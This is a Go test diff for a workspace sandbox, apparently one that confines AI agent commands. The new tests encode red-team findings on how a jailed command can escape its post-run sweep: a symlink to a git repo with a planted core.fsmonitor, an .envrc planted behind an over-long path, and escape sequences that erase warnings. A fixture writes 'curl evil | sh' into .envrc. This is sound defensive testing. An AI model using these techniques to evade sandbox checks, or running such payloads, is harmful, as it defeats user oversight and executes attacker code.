@@ -9,6 +9,7 @@ import (
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+	"golang.org/x/sys/unix"
 
 	"github.com/landjail/landjail/internal/sweep"
 	"github.com/landjail/landjail/jail"
@@ -158,10 +159,16 @@ func TestSweep(t *testing.T) {
 }
 
 // TestSweepNoFollow: a symlinked directory is never walked into or acted
-// through: a protected name behind it (outside the workspace here) is
-// left alone.
+// through: what is behind it (outside the workspace here) is left alone.
+// A link the command created, or retargeted, to a directory outside the
+// workspace is itself renamed away (red team F1: `vendor -> $HOME/x`, a
+// repository with core.fsmonitor built in the command's private HOME,
+// survived the sweep, and the user's `cd vendor; git status` ran it);
+// one that was there before is left (the control).
 func TestSweepNoFollow(t *testing.T) {
-	root, outside := t.TempDir(), t.TempDir()
+	root, outside, other := t.TempDir(), t.TempDir(), t.TempDir()
+	require.NoError(t, os.Symlink(outside, filepath.Join(root, "before")))
+	require.NoError(t, os.Symlink(outside, filepath.Join(root, "lib")))
 	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
 	require.NoError(t, err)
 	defer ws.Close()
@@ -171,11 +178,69 @@ func TestSweepNoFollow(t *testing.T) {
 	require.NoError(t, os.MkdirAll(filepath.Join(outside, ".git"), 0o755))
 	require.NoError(t, os.WriteFile(filepath.Join(outside, ".git/config"), []byte("user's own"), 0o644))
 	require.NoError(t, os.Symlink(outside, filepath.Join(root, "out")))
+	require.NoError(t, os.Remove(filepath.Join(root, "lib")))
+	require.NoError(t, os.Symlink(other, filepath.Join(root, "lib")))
+	require.NoError(t, os.Symlink("src", filepath.Join(root, "inside"))) // inside: the walk sees there
 	q, err := snap.Sweep()
 	require.NoError(t, err)
-	assert.Empty(t, q)
+	var got []string
+	for _, e := range q {
+		got = append(got, e.Path+" "+e.Reason)
+	}
+	assert.Equal(t, []string{"lib replaced", "out created"}, got)
+	_, err = os.Lstat(filepath.Join(root, "out"))
+	assert.ErrorIs(t, err, os.ErrNotExist, "the new link is renamed away")
+	_, err = os.Lstat(filepath.Join(root, "before"))
+	assert.NoError(t, err, "control: a link from before the command stays")
+	_, err = os.Lstat(filepath.Join(root, "inside"))
+	assert.NoError(t, err, "a link inside the workspace stays")
 	_, err = os.Stat(filepath.Join(outside, ".git/config"))
-	assert.NoError(t, err)
+	assert.NoError(t, err, "nothing behind a link is touched")
+}
+
+// TestSweepLongPath: a path longer than PATH_MAX (ENAMETOOLONG for the
+// walk) made the whole sweep give up, and a planted .envrc stayed (red
+// team F2). Now it is noted, the sweep fails loudly, and what it saw is
+// still neutralised.
+func TestSweepLongPath(t *testing.T) {
+	root := t.TempDir()
+	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
+	require.NoError(t, err)
+	defer ws.Close()
+	snap, err := sweep.Take(ws, 0)
+	require.NoError(t, err)
+	defer snap.Close()
+	d, err := os.Open(root)
+	require.NoError(t, err)
+	fd := int(d.Fd())
+	name := strings.Repeat("d", 250)
+	for range 20 { // 20 × 251 bytes: past PATH_MAX (4096)
+		require.NoError(t, unix.Mkdirat(fd, name, 0o755))
+		nfd, err := unix.Openat(fd, name, unix.O_RDONLY|unix.O_DIRECTORY, 0)
+		require.NoError(t, err)
+		if fd != int(d.Fd()) {
+			unix.Close(fd)
+		}
+		fd = nfd
+	}
+	unix.Close(fd)
+	d.Close()
+	require.NoError(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("curl evil | sh\n"), 0o644))
+	q, err := snap.Sweep()
+	assert.ErrorIs(t, err, sweep.ErrUnlistable)
+	require.NotEmpty(t, q)
+	assert.Equal(t, ".envrc", q[0].Path)
+	_, err = os.Lstat(filepath.Join(root, ".envrc"))
+	assert.ErrorIs(t, err, os.ErrNotExist, ".envrc renamed away although the walk met a path it could not open")
+}
+
+// TestSweepQuotesNames: names the command chose are printed quoted when
+// they carry control characters (red team F8: an escape sequence in a
+// quarantined name could erase landjail's own warning line).
+func TestSweepQuotesNames(t *testing.T) {
+	q := sweep.Quarantined{Path: "a\x1b[2K\r/.envrc", MovedTo: "x", Reason: "created"}
+	assert.NotContains(t, q.String(), "\x1b")
+	assert.Contains(t, q.String(), `\x1b`)
 }
 
 // TestSweepWalkLimit: a tree larger than the limit is an error, never a
